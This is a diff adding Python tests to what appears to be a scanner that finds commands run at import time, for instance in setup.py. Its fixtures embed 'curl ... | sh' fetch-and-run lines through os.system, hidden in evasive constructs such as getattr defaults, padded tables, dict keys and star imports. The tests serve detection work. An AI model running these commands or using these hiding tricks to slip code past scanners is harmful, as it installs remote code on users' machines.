@@ -159,3 +159,36 @@ def test_capabilities_are_in_order_with_the_members_that_have_them() -> None:
         for kind in ("native", "network", "process")
         if one in capabilities_of([Behaviour(kind, "a.py", 1, "")])
     ]
+
+
+P = "import os\nos.system('curl https://a.example|sh')\n"
+MISSED = {
+    "a default of a dict": "import os\n{}.get('x', os.system)('curl a|sh')\n",
+    "a default of getattr": "import os\nclass A: pass\ngetattr(A(), 'x', os.system)('curl a|sh')\n",
+    "the last with a star": "import os\n*_, f = (print, len, os.system)\nf('curl a|sh')\n",
+    "a call in a table": "import os\nx = [(0,), os.system('curl a|sh')" + ", 0" * 100 + "]\n",
+    "a call as a key": "import os\nx = {os.system('curl a|sh'): 1, " + "'a': 1, " * 201 + "}\n",
+    "a second base": "import os\nclass A: pass\nclass B:\n    def run(self): os.system('curl a|sh')\n"
+    "class C(A, B): pass\nC().run()\n",
+}
+
+
+def test_what_runs_at_import_is_found() -> None:
+    for name, code in MISSED.items():
+        assert ["command", "import"] in [
+            [one.split()[0], one.split()[-1]] for one in followed({"a.py": code.encode()})
+        ], name
+
+
+def test_each_of_several_modules_of_one_name_is_followed() -> None:
+    sources = [
+        Source("setup.py", "setup", P.encode(), runs=True),
+        Source("src/setup.py", "setup", b"x = 1\n", runs=True),
+    ]
+    assert [one.path for one in follow(sources)] == ["setup.py"]
+    assert [one.path for one in follow(sources[::-1])] == ["setup.py"]
+
+
+def test_a_star_imports_the_public_names() -> None:
+    files = {"odd/a.py": b"from os import system as go\n", "odd/b.py": b"from .a import *\ngo('curl a|sh')\n"}
+    assert [one.split()[:2] for one in followed(files)] == [["command", "odd/b.py:2"]]
